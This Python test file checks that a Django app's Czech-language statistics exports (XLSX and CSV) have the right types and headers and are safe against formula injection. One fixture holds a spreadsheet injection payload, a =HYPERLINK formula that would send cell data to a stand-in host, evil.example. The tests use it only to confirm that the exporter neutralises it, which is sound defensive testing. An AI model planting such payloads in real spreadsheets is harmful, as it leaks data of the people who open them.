"""The statistics exports opened the way a coordinator opens them: the XLSX with openpyxl,
cell by cell (types, Czech headers, frozen header row, a formula-like name kept as text), and
the CSV of every table."""

import csv
import io

import openpyxl
import pytest
from django.urls import reverse

from opora.accounts.models import Role
from opora.cases.tests.factories import CaseFactory
from opora.core.export import xlsx_workbook
from opora.core.testing.factories import MembershipFactory
from opora.outcomes.tests.fixtures import build

pytestmark = pytest.mark.django_db

QUERY = "?date_from=2025-01-01&date_to=2025-12-31"
FORMULA_NAME = '=HYPERLINK("https://evil.example/?x="&A1;"klikni")'


@pytest.fixture
def f():
    f = build()
    f.evil = MembershipFactory(organisation=f.org, role=Role.CASE_MANAGER, user__full_name=FORMULA_NAME)
    CaseFactory(organisation=f.org, lead=f.evil)
    return f


def _book(response):
    assert response.status_code == 200
    assert response["Content-Type"] == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    assert response["Cache-Control"] == "private, no-store"
    return openpyxl.load_workbook(io.BytesIO(response.content))


def test_the_xlsx_of_every_table_is_typed_czech_frozen_and_formula_safe(f, client, login):
    login(client, f.coordinator)
    book = _book(client.get(reverse("outcomes:statistics_export", args=["all", "xlsx"]) + QUERY))
    assert book.sheetnames == [
        "Klienti v období",
        "Důvody ukončení",
        "Délka ukončených případů",
        "Činnosti a hodiny podle druhu",
        "Setkání podle druhu",
        "Cíle",
        "Výsledky ukončených případů",
        "Vytížení pracovníků vůči modelu",
        "Trychtýř škol",
    ]
    clients = book["Klienti v období"]
    assert clients.freeze_panes == "A2"
    assert [c.value for c in clients[1]] == ["Ukazatel", "Počet"]
    assert all(c.font.bold for c in clients[1])
    assert [[c.value for c in row] for row in clients.iter_rows(min_row=2)] == [
        ["Klienti (žáci s případem probíhajícím v období)", 4],
        ["Nové případy (otevřené v období)", 2],
        ["Ukončené případy (ukončené v období)", 3],
    ]
    assert [clients.cell(row=r, column=2).data_type for r in (2, 3, 4)] == ["n", "n", "n"]

    activities = book["Činnosti a hodiny podle druhu"]
    assert [c.value for c in activities[1]] == ["Druh", "Činnosti", "Hodiny", "Případy"]
    assert [c.value for c in activities[2]] == ["Schůzka", 2, 2.5, 2]
    assert [c.value for c in activities[activities.max_row]] == ["Celkem", 4, 4.8, 4]

    caseload = book["Vytížení pracovníků vůči modelu"]
    names = {row[0].value: row for row in caseload.iter_rows(min_row=2)}
    evil = names["'" + FORMULA_NAME]
    assert evil[0].data_type == "s"  # text, not a formula
    assert evil[1].value == 1 and evil[1].data_type == "n"
    assert not any(
        c.data_type == "f" or (isinstance(c.value, str) and c.value.startswith("="))
        for ws in book.worksheets
        for row in ws.iter_rows()
        for c in row
    )


def test_the_csv_of_each_table_matches_the_page(f, client, login):
    login(client, f.coordinator)
    response = client.get(reverse("outcomes:statistics_export", args=["closure_reasons", "csv"]) + QUERY)
    assert response["Content-Type"].startswith("text/csv")
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert rows == [
        ["Důvod", "Ukončené případy"],
        ["Potřeby naplněny", "1"],
        ["Odmítnutá spolupráce", "1"],
        ["Spolupráce nenavázána", "0"],
        ["Jiný (odstěhování, věk…)", "1"],
        ["Celkem", "3"],
    ]
    caseload = client.get(reverse("outcomes:statistics_export", args=["caseload", "csv"]) + QUERY)
    cells = [row[0] for row in csv.reader(io.StringIO(caseload.content.decode("utf-8-sig")))]
    assert "'" + FORMULA_NAME in cells and FORMULA_NAME not in cells


def test_an_unknown_table_or_format_is_not_found(f, client, login):
    login(client, f.coordinator)
    assert client.get(reverse("outcomes:statistics_export", args=["nope", "csv"])).status_code == 404
    assert client.get(reverse("outcomes:statistics_export", args=["clients", "pdf"])).status_code == 404
    assert client.get(reverse("outcomes:statistics_export", args=["all", "csv"])).status_code == 404


def test_the_annual_report_exports(f, client, login):
    login(client, f.coordinator)
    book = _book(client.get(reverse("outcomes:annual_report_export", args=["xlsx"]) + "?year=2025"))
    summary = book["Údaje pro výroční zprávu"]
    assert [[c.value for c in row] for row in summary.iter_rows()] == [
        ["Ukazatel", "Počet"],
        ["Klienti", 3],
        ["Kontakty", 1],
        ["Intervence", 3],
        ["Hodiny přímé práce", 4.8],
    ]


def test_the_xlsx_helper_neutralises_every_trigger_and_keeps_types():
    import datetime

    content = xlsx_workbook(
        [("A/B:C*?[x]", ["Jméno", "Počet", "Den"], [["+1", 2, datetime.date(2025, 1, 2)], ["@x\x07", 1.5, None]])]
    )
    ws = openpyxl.load_workbook(io.BytesIO(content)).active
    assert ws.title == "ABCx"
    assert [c.value for c in ws[2]][:2] == ["'+1", 2]
    assert ws["C2"].is_date and ws["C2"].value.date() == datetime.date(2025, 1, 2)
    assert ws["A3"].value == "'@x" and ws["B3"].value == 1.5
